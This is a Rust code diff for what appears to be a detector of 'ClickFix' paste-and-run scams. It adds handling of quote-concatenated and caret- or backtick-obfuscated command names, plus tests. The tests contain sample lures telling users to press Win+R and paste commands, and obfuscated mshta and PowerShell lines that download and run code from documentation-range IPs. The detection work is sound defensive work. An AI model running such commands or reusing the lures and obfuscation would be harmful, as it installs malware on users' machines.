@@ -238,6 +238,7 @@ pub struct ClickFix {
 /// words from filters removed (`p^o^w^e^r^s^h^e^l^l`, ``i`e`x``, `pow''ershell`), full-width
 /// letters folded, invisible characters out, whitespace runs collapsed to one space.
 fn flatten(raw: &str) -> String {
+    let raw = join_quoted(raw);
     let mut out = String::with_capacity(raw.len());
     let mut space = false;
     for c in raw.chars() {
@@ -260,6 +261,39 @@ fn flatten(raw: &str) -> String {
         out.push(c.to_ascii_lowercase());
     }
     out
+}
+
+/// Quoted pieces joined by `+` read as one string (`('i'+'ex')`, `"Invoke-Web" + "Request"`):
+/// the `+` between a closing and an opening quote goes, so the name is whole once quotes are out.
+fn join_quoted(raw: &str) -> std::borrow::Cow<'_, str> {
+    if !raw.contains('+') {
+        return raw.into();
+    }
+    // Byte-wise: `+`, quotes and the blanks dropped are ASCII, so the rest stays valid UTF-8.
+    let b = raw.as_bytes();
+    let blank = |c: &u8| c.is_ascii_whitespace();
+    let quote = |c: Option<&u8>| matches!(c, Some(b'"' | b'\''));
+    let mut out: Vec<u8> = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'+'
+            && quote(b[..i].iter().rev().find(|c| !blank(c)))
+            && quote(b[i + 1..].iter().find(|c| !blank(c)))
+        {
+            // Drop the blanks around it too: `'i' + 'ex'` is `iex`.
+            while out.last().is_some_and(blank) {
+                out.pop();
+            }
+            i += 1;
+            while i < b.len() && blank(&b[i]) {
+                i += 1;
+            }
+            continue;
+        }
+        out.push(b[i]);
+        i += 1;
+    }
+    String::from_utf8(out).map_or(raw.into(), Into::into)
 }
 
 /// Tokens of a flattened command: separated by spaces and shell punctuation.
@@ -1221,17 +1255,21 @@ fn typed_lines(text: &str) -> Vec<&str> {
     let mut out: Vec<&str> = Vec::new();
     let mut i = 0;
     while i < b.len() && out.len() < TYPED_LINES {
-        // A name starts a word and ends it (`powershell.exe`, `iex(irm`).
+        // A name starts a word and ends it (`powershell.exe`, `iex(irm`); carets and backticks
+        // inside it only hide it from filters (`m^s^h^t^a`, ``p`o`w`e`r`s`h`e`l`l``), as
+        // `recognise` reads them.
         let len = b[i..]
             .iter()
-            .take_while(|c| c.is_ascii_alphanumeric())
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'^' || **c == b'`')
             .count();
+        let word = b[i..i + len].iter().filter(|c| c.is_ascii_alphanumeric());
+        let len = len.max(1);
         let name = (i == 0 || !b[i - 1].is_ascii_alphanumeric())
             && NAMES
                 .iter()
-                .any(|n| n.len() == len && b[i..i + len].eq_ignore_ascii_case(n.as_bytes()));
+                .any(|n| word.clone().map(u8::to_ascii_lowercase).eq(n.bytes()));
         if !name {
-            i += len.max(1);
+            i += len;
             continue;
         }
         let start = text[..i].rfind('\n').map_or(0, |j| j + 1);
@@ -2606,6 +2644,49 @@ mod tests {
                  press Enter:\n{ps}"
             )),
             Level::Scam
+        );
+    }
+
+    #[test]
+    fn the_run_box_from_the_start_menu_and_names_hidden_in_typed_lines() {
+        use crate::verdict::Options;
+        // The Run box opened by name from the Start menu, with a fix story and no human check.
+        let fix = "Error: this document could not be opened. How to fix: click Start, type Run \
+                   and press Enter, then paste the fix with Ctrl+V and press Enter.";
+        assert!(judged("mshta http://203.0.113.18/fix.hta", fix));
+        assert!(judged(
+            "mshta http://203.0.113.18/fix.hta",
+            "Das Dokument konnte nicht angezeigt werden. Klicken Sie auf Start, geben Sie \
+             Ausführen ein und drücken Sie die Eingabetaste. Fügen Sie dann mit Strg+V ein."
+        ));
+        // Quoted pieces joined by `+` make the name whole.
+        assert!(
+            shapes_of("powershell -c \"&('i'+'ex')(&('i' + 'wr') 'http://203.0.113.19/z')\"")
+                .contains(&Shape::PowerShellDownload)
+        );
+        // A name spelled with carets starts a typed line; a docs page about escaping stays silent.
+        let v = |text: &str| {
+            let snap = Snapshot {
+                url: "https://check.example/".into(),
+                text: text.into(),
+                ..Default::default()
+            };
+            crate::engine::analyse(&snap, &Options::default()).kind
+        };
+        assert_eq!(
+            v(
+                "Verify you are human. Press Win+R, type the line below and press Enter:\n\
+               c^m^d /c m^s^h^t^a http://203.0.113.20/v.hta"
+            ),
+            Kind::Clickfix
+        );
+        assert_ne!(
+            v(
+                "In cmd.exe the caret escapes the next character. Example:\n\
+               p^o^w^e^r^s^h^e^l^l -NoProfile -Command Get-Date\n\
+               Open a terminal and type the command above to try it."
+            ),
+            Kind::Clickfix
         );
     }
 }
